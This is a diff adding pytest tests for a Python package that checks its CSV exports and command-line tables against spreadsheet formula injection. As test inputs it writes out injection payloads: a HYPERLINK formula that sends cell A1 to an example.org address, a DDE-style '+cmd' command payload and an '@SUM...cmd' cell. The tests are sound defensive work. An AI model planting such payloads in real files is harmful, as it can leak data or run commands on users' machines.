@@ -1,0 +1,69 @@
+"""No text of a table is a formula to a spreadsheet."""
+
+from __future__ import annotations
+
+import csv
+import json
+import re
+from io import StringIO
+from pathlib import Path
+from typing import Any
+
+import pandas as pd
+import pytest
+
+import perufr_map as pm
+from perufr_map.cli._talk import print_frame
+from perufr_map.exports.formulas import disarm
+
+FORMULA = '=HYPERLINK("https://example.org/?"&A1,"more")'
+STARTS_OF_FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")  # noqa: RUF001
+
+
+def cells(text: str) -> set[str]:
+    """Return the texts of a CSV, without what is a number."""
+    rows = csv.reader(StringIO(text.removeprefix("\ufeff"), newline=""))
+    return {cell for row in rows for cell in row if not re.fullmatch(r"-?[0-9.]+", cell)}
+
+
+def test_no_text_of_a_table_is_a_formula(folder: Path, edit: Any, tmp_path: Path) -> None:
+    edit("events.csv", {"counterpart": "VEN"}, headline_en=FORMULA, narrative_en="+cmd|' /C x'!A0")
+    edit("counterparts.csv", {"id": "VEN"}, name_en="@SUM(1+1)*cmd")
+    edit("counterparts.csv", {"id": "USA"}, name_en="-2+3")
+    study = pm.load(folder)
+    study.export(tmp_path / "events.csv", all_eras=True)
+    study.export(tmp_path / "scores.csv", all_eras=True)
+    study.export(tmp_path / "changes.csv", before="velasco")
+    study.site(tmp_path / "site")
+    files = [*tmp_path.glob("*.csv"), *(tmp_path / "site" / "en").rglob("*.csv")]
+    assert len(files) == 5
+    for file in files:
+        found = cells(file.read_text("utf-8"))
+        assert not [cell for cell in found if cell.startswith(STARTS_OF_FORMULAS)]
+        assert {"'@SUM(1+1)*cmd", "'-2+3"} <= found
+        events = {f"'{FORMULA}", "'+cmd|' /C x'!A0"}
+        assert (events <= found) == (file.name == "events.csv")
+
+
+def test_a_number_is_no_formula() -> None:
+    frame = pd.DataFrame(
+        {
+            "number": [-1.5, 2],
+            "count": pd.array([-3, None], dtype="Int64"),
+            "text": ["-3.5", "+51"],
+            "mixed": [-1, "\t=1"],
+            "category": pd.Categorical(["＝1", "Peru"]),  # noqa: RUF001
+            "word": pd.array(["-", pd.NA], dtype="string"),
+        }
+    )
+    found = disarm(frame).to_csv(index=False, lineterminator="\n").splitlines()
+    assert found[1] == "-1.5,-3,-3.5,-1,'＝1,'-"  # noqa: RUF001
+    assert found[2] == "2.0,,+51,'\t=1,Peru,"
+
+
+def test_a_table_on_the_command_line_holds_no_formula(capsys: pytest.CaptureFixture[str]) -> None:
+    print_frame(pd.DataFrame({"counterpart": [FORMULA], "score": [-2.5]}), "csv")
+    assert "'" + FORMULA.replace('"', '""') in capsys.readouterr().out
+    print_frame(pd.DataFrame({"counterpart": [FORMULA], "score": [-2.5]}), "json")
+    (row,) = json.loads(capsys.readouterr().out)
+    assert row == {"counterpart": FORMULA, "score": -2.5}
